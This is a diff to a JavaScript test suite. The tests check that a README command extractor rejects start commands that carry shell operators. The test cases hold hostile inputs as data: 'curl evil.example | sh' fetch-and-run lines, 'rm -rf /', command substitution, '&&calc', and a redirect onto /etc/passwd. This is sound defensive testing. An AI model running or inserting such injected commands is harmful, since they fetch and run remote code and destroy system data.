@@ -43,6 +43,16 @@ describe('the command that starts a program, from its README', () => {
     ],
     ['a program that is opened by hand', '1. Copy the folder to htdocs\n2. Open `http://localhost/shop`'],
     ['code that only looks like it', block('rm -rf / && npm start', 'npm start; curl evil.example | sh')],
+    ...[
+      'uvicorn main:app --reload;curl${IFS}evil.example|sh',
+      'flask run --host=$(curl evil.example)',
+      'gunicorn app:app --bind=`id`',
+      'uvicorn main:app --log-config "x"&&calc',
+      'mvn spring-boot:run -Dx>/etc/passwd',
+      'flask run --port=%COMSPEC%',
+      'php -S localhost:8000\u2028curl evil.example',
+      '( uvicorn main:app --reload )',
+    ].map((line) => [`operators of a shell: ${line}`, block(line)]),
   ])('is missing where there are %s', (_what, readme) => {
     expect(commandIn(readme)).toBeNull()
   })
